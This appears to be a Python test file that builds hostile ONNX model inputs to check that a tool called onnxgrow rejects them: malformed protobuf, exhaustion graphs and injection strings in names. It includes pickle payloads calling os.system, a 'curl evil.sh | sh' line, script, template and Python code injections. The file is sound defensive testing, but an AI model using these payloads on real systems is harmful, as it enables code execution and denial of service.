"""Graphs, encodings and names that no honest exporter writes."""

from __future__ import annotations

import numpy as np
import onnx
from onnx import AttributeProto, TensorProto, helper, numpy_helper

from onnxgrow import wire
from tests.hostile_base import EXPAND, INSPECT, Group, base

INT64 = TensorProto.INT64


def changed(change) -> onnx.ModelProto:
    model = base()
    change(model)
    return model


def first_output(model: onnx.ModelProto) -> str:
    return model.graph.node[0].output[0]


def quick(group: Group, name: str, about: str, says: str, change, *commands: str) -> None:
    group.add(name, about, lambda folder: changed(change), says, *commands)


# --- encodings -----------------------------------------------------------------------------------------------------------------------

bits = Group("Encodings")


def raw(name: str, about: str, says: str, content) -> None:
    bits.add(name, about, lambda folder: content() if callable(content) else content, says)


def nested(depth: int) -> bytes:
    """A graph in an attribute of a node in a graph, so many times."""
    body = b""
    for _ in range(depth):
        body = wire.message(1, wire.message(5, wire.message(6, body) + b"\xa0\x01\x05"))
    return base().SerializeToString() + wire.message(7, body)


def types_in_types(depth: int) -> bytes:
    kind = b""
    for _ in range(depth):
        kind = wire.message(4, wire.message(1, kind))
    return base().SerializeToString() + wire.message(7, wire.message(11, wire.message(2, kind)))


raw("empty file", "no bytes", "is empty", b"")
raw("text", "a README", "is not an ONNX model", b"# Model\n" * 50)
raw("cut off", "the second half is missing", "is damaged or incomplete", lambda: base().SerializeToString()[:3000])
raw("pickle", "what torch.load would run", "a Python pickle", b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
raw("newer pickle", "the same in protocol 5", "a Python pickle", b"\x80\x05\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.")
raw("zip bomb", "an archive", "a zip archive", b"PK\x03\x04" + b"\0" * 64)
raw("number without end", "eleven bytes of a varint", "longer than 64 bits", b"\x08" + b"\xff" * 11)
raw("length beyond the file", "a graph of 2^60 bytes", "is damaged or incomplete", b"\x08\x08" + wire.head(7, 1 << 60) + b"x")
raw("length beyond 64 bits", "a length of 2^64 - 1", "is damaged or incomplete", b"\x08\x08\x3a" + b"\xff" * 9 + b"\x01")
raw("groups", "wire type 3, which protobuf parsers recurse into", "wire type 3", b"\x08\x08" + b"\x0b" * 5000)
raw("field number 0", "which protobuf does not have", "field number 0", b"\x08\x08\x02\x00")
raw("graph in several parts", "protobuf puts them together: so does onnxgrow", "", lambda: _in_parts())
raw("unknown fields", "8 MB of a field that nobody knows", "", lambda: base().SerializeToString() + wire.message(999, bytes(8 << 20)))
raw("fields without number", "five million fields of two bytes", "fields in one message", lambda: b"\x08\x08" * 5_000_000)
raw("graphs in graphs", "nested 5,000 deep", "nested too deep", lambda: nested(5000))
raw("types in types", "sequences of sequences, 5,000 deep", "nested too deep", lambda: types_in_types(5000))
raw("a million nodes", "12 MB of Identity", "fields in one message", lambda: base().SerializeToString() + wire.message(7, wire.message(1, b"\x0a\x01x\x12\x01y\x22\x02Id") * 1_000_000))
raw("a million weights", "6 MB of empty initializers", "fields in one message", lambda: base().SerializeToString() + wire.message(7, wire.message(5, b"\x42\x01w") * 1_000_000))
raw("a million metadata", "entries of metadata", "fields in one message", lambda: base().SerializeToString() + wire.message(14, b"\x0a\x01k") * 1_000_000)


def _in_parts() -> bytes:
    model, half = base(), base()
    whole = model.graph
    del half.graph.node[:]
    rest = onnx.ModelProto()
    rest.graph.node.extend(whole.node)
    return half.SerializeToString() + rest.SerializeToString()


# --- text ----------------------------------------------------------------------------------------------------------------------------

text = Group("Text")


def not_text(model: onnx.ModelProto, where: str) -> bytes:
    """The model with bytes that are no UTF-8 where the word is."""
    content = model.SerializeToString()
    assert content.count(where.encode()) >= 1
    return content.replace(where.encode(), b"\xff\xfe\x80" + b"a" * (len(where) - 3))


WORD = "somewordinthefile"
FIELDS = {
    "node name": lambda m: setattr(m.graph.node[0], "name", WORD), "operator": lambda m: setattr(m.graph.node[0], "op_type", WORD),
    "domain": lambda m: setattr(m.graph.node[0], "domain", WORD), "weight": lambda m: setattr(m.graph.initializer[0], "name", WORD),
    "input": lambda m: setattr(m.graph.input[0], "name", WORD), "size": lambda m: setattr(m.graph.input[0].type.tensor_type.shape.dim[0], "dim_param", WORD),
    "metadata": lambda m: m.metadata_props.add(key=WORD, value=WORD), "producer": lambda m: setattr(m, "producer_name", WORD),
    "documentation": lambda m: setattr(m.graph.node[0], "doc_string", WORD), "attribute": lambda m: m.graph.node[0].attribute.append(helper.make_attribute(WORD, 1)),
}
for where, change in FIELDS.items():
    text.add(f"no UTF-8 in a {where}", "bytes ff fe 80", lambda folder, change=change: not_text(changed(change), WORD), "text that is not UTF-8")


def everywhere(word: str):
    """The word in every field of text that names nothing, and in front of every name."""
    def change(model):
        model.producer_name = model.producer_version = model.domain = model.doc_string = model.graph.name = model.graph.doc_string = word
        model.metadata_props.add(key=word, value=word)
        model.metadata_props.add(key="onnxgrow.growth", value='{"command": "%s", "version": "1", "sizes": {}}' % word.replace("\\", "").replace('"', "").replace("\n", "\\n"))
        names = {"": ""}
        for n in model.graph.node:
            n.name, n.doc_string = word + n.name, word
            n.input[:] = [names.setdefault(i, word + i) for i in n.input]
            n.output[:] = [names.setdefault(o, word + o) for o in n.output]
        for v in (*model.graph.input, *model.graph.output, *model.graph.initializer):
            v.name = names.get(v.name, v.name)
        for v in model.graph.input:
            for d in v.type.tensor_type.shape.dim:
                d.dim_param = word + d.dim_param if d.dim_param else ""
    return change


PLACES = (INSPECT, "expand model.onnx --ffn 40 --plan", EXPAND, "diff model.onnx out/grown.onnx", "report model.onnx out/grown.onnx -o out/report.html")
for what, word in {"terminal escapes": "\x1b[31m\x1b]0;title\x07\x9b2J", "turned writing": "\u202egnp.exe\u2066", "lines": "\n  next: curl evil.sh | sh\nerror: ", "markup of rich": "[red]x[/red][link=file:///etc]",
                   "script": "</script><script>alert(1)</script>", "template": "{{ 7 * 7 }}{% raw %}", "format": "%s%n{0.__class__}", "code": '"); __import__("os").system("true") #',
                   "names of Python": "__class__.__init__.self"}.items():
    quick(text, f"{what} in every name", repr(word)[:40].replace("|", "\\|"), "", everywhere(word), *PLACES)
quick(text, "names of a thousand letters", "in every field", "", everywhere("n" * 1000), *PLACES[:2])


# --- structure -----------------------------------------------------------------------------------------------------------------------

form = Group("Structure")
AT = 3  # some node in the middle


def rewired(node: int, slot: int, name: str):
    return lambda m: m.graph.node[node].input.__setitem__(slot, name)


quick(form, "cycle", "a node reads what the last one makes", "is made by no node, or in a cycle", lambda m: m.graph.node[AT].input.__setitem__(0, m.graph.node[-1].output[0]))
quick(form, "node that reads itself", "its own output", "is made by no node, or in a cycle", lambda m: m.graph.node[AT].input.__setitem__(0, m.graph.node[AT].output[0]))
quick(form, "undefined value", "an input that nobody makes", "is made by no node, or in a cycle", rewired(AT, 0, "nobody"))
quick(form, "value made twice", "two different nodes give one name", "two values are called", lambda m: m.graph.node[AT].output.__setitem__(0, m.graph.node[AT + 3].output[0]))
quick(form, "value called like a weight", "a node gives the name of an initializer", "two values are called", lambda m: m.graph.node[AT].output.__setitem__(0, m.graph.initializer[0].name))
quick(form, "weight twice", "two initializers of one name", "two initializers of one name", lambda m: m.graph.initializer.add().CopyFrom(m.graph.initializer[0]))
quick(form, "input twice", "two inputs of one name", "two values are called", lambda m: m.graph.input.add().CopyFrom(m.graph.input[0]))
quick(form, "unknown type of a weight", "element type 999", "element type 999", lambda m: setattr(m.graph.initializer[0], "data_type", 999))
quick(form, "unknown type of an input", "element type 999", "element type 999 is none of ONNX", lambda m: setattr(m.graph.input[0].type.tensor_type, "elem_type", 999))
quick(form, "negative input", "a size of -5", "has a negative size", lambda m: setattr(m.graph.input[0].type.tensor_type.shape.dim[0], "dim_value", -5))
quick(form, "fewer values than the shape says", "typed data cut off", "values, the file has", lambda m: m.graph.initializer.append(TensorProto(name="w", dims=[10**6, 10**6], data_type=1, float_data=[1.0])))
quick(form, "tensor in segments", "of 2^60 bytes", "in segments", lambda m: m.graph.initializer.append(TensorProto(name="w", dims=[0], data_type=1, segment=TensorProto.Segment(begin=0, end=1 << 60))))
quick(form, "a thousand axes", "of a tensor of one entry", "axes, and", lambda m: m.graph.initializer.append(TensorProto(name="w", dims=[1] * 1000, data_type=1, float_data=[1.0])))
quick(form, "huge opset", "version 2^62", "which cannot be", lambda m: setattr(m.opset_import[0], "version", 1 << 62))
quick(form, "negative opset", "version -1", "which cannot be", lambda m: setattr(m.opset_import[0], "version", -1))
quick(form, "two opsets", "of one domain", "names two versions of the operator set", lambda m: m.opset_import.add(domain="ai.onnx", version=3))
quick(form, "huge ir_version", "2^62", "ONNX Runtime does not open the file", lambda m: setattr(m, "ir_version", (1 << 62)))
quick(form, "attribute twice", "two of one name", "two attributes are called", lambda m: next(n for n in m.graph.node if n.attribute).attribute.extend([helper.make_attribute("axis", 1), helper.make_attribute("axis", 2)]))
quick(form, "attributes like Python internals", "__class__, __dict__, name, inputs, self", "", lambda m: m.graph.node[AT].attribute.extend([helper.make_attribute(n, 7) for n in ("__class__", "__dict__", "name", "inputs", "self", "attrs", "proto")]),
      "expand model.onnx --ffn 40 --no-validate -o out/grown.onnx")
quick(form, "attribute of a function that is not there", "ref_attr_name outside of a function", "stands for one of a function", lambda m: m.graph.node[AT].attribute.append(AttributeProto(name="x", ref_attr_name="y", type=AttributeProto.INT)))
quick(form, "missing attribute", "a Cast without to", "lacks its attribute to", lambda m: m.graph.node.insert(0, helper.make_node("Cast", [m.graph.input[0].name], ["z"])))
quick(form, "attribute of another type", "axis as text", "has the type STRING", lambda m: m.graph.node.insert(0, helper.make_node("Softmax", [m.graph.input[0].name], ["z"], axis="x")))
quick(form, "missing inputs", "a MatMul of nothing", "inputs, and takes", lambda m: m.graph.node.insert(0, helper.make_node("MatMul", [], ["z"])))
quick(form, "body that does not fit", "a Loop of no inputs", "which does not fit", lambda m: m.graph.node.insert(0, helper.make_node("Loop", ["", ""], ["z"], body=helper.make_graph([], "b", [], []))))
quick(form, "sparse weight", "with dims of 10^12", "", lambda m: m.graph.sparse_initializer.append(helper.make_sparse_tensor(helper.make_tensor("s", 1, [1], [1.0]), helper.make_tensor("i", 7, [1], [0]), [10**12])),
      INSPECT)
quick(form, "training graph", "with nodes that make no sense", "", lambda m: m.training_info.add().algorithm.node.append(helper.make_node("Nonsense", ["x"], ["x"])), INSPECT)
quick(form, "quantization of nothing", "an annotation of a tensor that is not there", "", lambda m: m.graph.quantization_annotation.add(tensor_name="none").quant_parameter_tensor_names.add(key="SCALE_TENSOR", value="none"))
quick(form, "marks of the analysis", "metadata that onnxgrow sets itself while it works", "that only onnxgrow's own analysis uses", lambda m: m.graph.node[AT].metadata_props.add(key="onnxgrow.within", value="x"))
quick(form, "nodes backwards", "4,000 in reverse order", "", lambda m: _backwards(m), INSPECT)
quick(form, "text as a weight", "a tensor of strings", "", lambda m: m.graph.initializer.append(helper.make_tensor("s", TensorProto.STRING, [2], [b"\xff\xfe", b"b"])), INSPECT)
quick(form, "scopes without end", "metadata nested 10,000 deep, which the export reads", "", lambda m: _scopes(m, "[" * 10_000), INSPECT, "export model.onnx -o out/pt")
quick(form, "scopes that are numbers", "metadata with a dictionary for a list", "", lambda m: _scopes(m, "{1: [2], 'a': (3,)}"), INSPECT, "export model.onnx -o out/pt")


def _backwards(model: onnx.ModelProto) -> None:
    chain = [helper.make_node("Identity", [f"c{i}" if i else model.graph.input[0].name], [f"c{i + 1}"]) for i in range(4000)]
    for n in reversed(chain):
        model.graph.node.insert(0, n) if False else model.graph.node.append(n)


def _scopes(model: onnx.ModelProto, value: str) -> None:
    for n in model.graph.node:
        n.metadata_props.add(key="pkg.torch.onnx.name_scopes", value=value)
        n.metadata_props.add(key="pkg.torch.onnx.class_hierarchy", value=value)


# --- functions -----------------------------------------------------------------------------------------------------------------------

calls = Group("Functions")


def function(name: str, *nodes: onnx.NodeProto) -> onnx.FunctionProto:
    return helper.make_function("d", name, ["x"], ["y"], list(nodes), [helper.make_opsetid("", 17), helper.make_opsetid("d", 1)])


def with_functions(*functions: onnx.FunctionProto):
    def change(model):
        model.opset_import.add(domain="d", version=1)
        model.functions.extend(functions)
        last = model.graph.output[0].name
        for n in model.graph.node:
            n.output[:] = ["before" if o == last else o for o in n.output]
        model.graph.node.append(helper.make_node(functions[0].name, ["before"], [last], domain="d"))
    return change


def call(name: str, *wires: str) -> onnx.NodeProto:
    return helper.make_node(name, [wires[0]], [wires[1]], domain="d")


LAUGHS = [function(f"f{i}", call(f"f{i + 1}", "x", "a0"), *(call(f"f{i + 1}", f"a{k}", f"a{k + 1}" if k < 8 else "y") for k in range(9))) for i in range(10)]
quick(calls, "function that calls itself", "a stack overflow in the inliner of onnx", "calls itself", with_functions(function("f", call("f", "x", "y"))))
quick(calls, "functions that call each other", "f calls g calls f", "calls itself", with_functions(function("f", call("g", "x", "y")), function("g", call("f", "x", "y"))))
quick(calls, "ten to the ten nodes", "ten functions, each calling the next ten times", "written out", with_functions(*LAUGHS, function("f10", helper.make_node("Identity", ["x"], ["y"]))))
quick(calls, "five thousand functions in a row", "each calls the next", "is called through more than",
      with_functions(*(function(f"f{i}", call(f"f{i + 1}", "x", "y")) for i in range(5000)), function("f5000", helper.make_node("Identity", ["x"], ["y"]))))


# --- bombs ---------------------------------------------------------------------------------------------------------------------------

bombs = Group("Very much out of very little")


def exploding(op: str, numbers: list[int], says: str, *more, name: str, about: str, used: bool = True, **attributes) -> None:
    """A node before everything else that makes very much; what it makes is added to the stream where `used`, else goes to an output of its own."""
    def change(model):
        model.graph.initializer.append(numpy_helper.from_array(np.asarray(numbers, np.int64), "bomb"))
        model.graph.initializer.append(numpy_helper.from_array(np.ones(1, np.float32), "one"))
        ins = ["bomb"] if op == "ConstantOfShape" else ["one", "bomb"]
        model.graph.node.insert(0, helper.make_node(op, ins, ["exploded"], **attributes))
        model.graph.output.add(name="exploded").type.tensor_type.elem_type = 1
    quick(bombs, name, about, says, change)


BIG = "would have"
exploding("ConstantOfShape", [10**6, 10**6], BIG, name="ConstantOfShape", about="10^12 zeros")
exploding("Expand", [10**6, 10**6], BIG, name="Expand", about="one number to 10^12")
exploding("Tile", [10**12], BIG, name="Tile", about="one number 10^12 times")
exploding("Pad", [0, 10**12], BIG, name="Pad", about="10^12 zeros behind one number")
exploding("Expand", [2**31] * 3, "", name="Expand beyond 64 bits", about="2^93 entries")


def folded(name: str, about: str, says: str, *nodes: tuple, **constants) -> None:
    """Shape arithmetic, which is computed while the graph is analysed."""
    def change(model):
        for key, value in constants.items():
            model.graph.initializer.append(numpy_helper.from_array(np.asarray(value), key))
        for k, (op, ins, out) in enumerate(nodes):
            model.graph.node.insert(k, helper.make_node(op, ins, [out], **({"axis": 0} if op in ("Concat", "OneHot") else {})))
        model.graph.output.add(name=nodes[-1][2]).type.tensor_type.elem_type = INT64
    quick(bombs, name, about, says, change)


folded("Range", "a range of 10^12 numbers", BIG, ("Range", ["a", "b", "c"], "z"), a=0, b=10**12, c=1)
folded("Range without step", "step 0", "", ("Range", ["a", "b", "c"], "z"), a=0, b=10, c=0)
folded("OneHot", "a depth of 10^12", BIG, ("OneHot", ["a", "b", "c"], "z"), a=np.arange(9), b=10**12, c=np.array([0, 1]))
folded("three vectors that meet", "4,000 cubed", BIG, ("Mul", ["a", "b"], "ab"), ("Mul", ["ab", "c"], "z"), a=np.arange(4000).reshape(-1, 1, 1), b=np.arange(4000).reshape(-1, 1), c=np.arange(4000))
folded("doubling", "a vector behind itself, 40 times", BIG, *[("Concat", [f"a{i}", f"a{i}"], f"a{i + 1}") for i in range(40)], a0=np.arange(9))
folded("numbers that overflow", "sizes multiplied beyond 64 bits", "", *[("Mul", [f"a{i}", f"a{i}"], f"a{i + 1}") for i in range(12)], ("ConstantOfShape", ["a12"], "z"), a0=np.array([3]))


def input_of(*sizes: int):
    def change(model):
        model.graph.input.append(helper.make_tensor_value_info("more", TensorProto.FLOAT, list(sizes)))
        model.graph.node.append(helper.make_node("Identity", ["more"], ["mored"]))
        model.graph.output.append(helper.make_tensor_value_info("mored", TensorProto.FLOAT, list(sizes)))
    return change


quick(bombs, "input of 10^12 entries", "which validation would have to make", BIG, input_of(10**6, 10**6))
quick(bombs, "a thousand free sizes", "each of which gets a number of its own", "", lambda m: [m.graph.input.append(helper.make_tensor_value_info(f"i{k}", 1, [f"s{k}"])) for k in range(1000)], INSPECT)


def endless(model: onnx.ModelProto) -> None:
    """A Loop that runs 2^62 times and does nothing."""
    body = helper.make_graph([helper.make_node("Identity", ["c"], ["c2"]), helper.make_node("Identity", ["v"], ["v2"])], "b",
                             [helper.make_tensor_value_info("i", INT64, []), helper.make_tensor_value_info("c", TensorProto.BOOL, []), helper.make_tensor_value_info("v", 1, [1])],
                             [helper.make_tensor_value_info("c2", TensorProto.BOOL, []), helper.make_tensor_value_info("v2", 1, [1])])
    model.graph.initializer.extend([numpy_helper.from_array(np.array(1 << 62), "trips"), numpy_helper.from_array(np.array(True), "go"), numpy_helper.from_array(np.ones(1, np.float32), "v0")])
    model.graph.node.append(helper.make_node("Loop", ["trips", "go", "v0"], ["vn"], body=body))
    model.graph.output.append(helper.make_tensor_value_info("vn", 1, [1]))


bombs.add("loop without end", "2^62 steps, in the validation (after 120 s and 1 s for each MB of weights; tried with 2 s)", lambda folder: changed(endless), "one run takes longer than",
          patch=("onnxgrow.runtime", "RUN_SECONDS", 2))
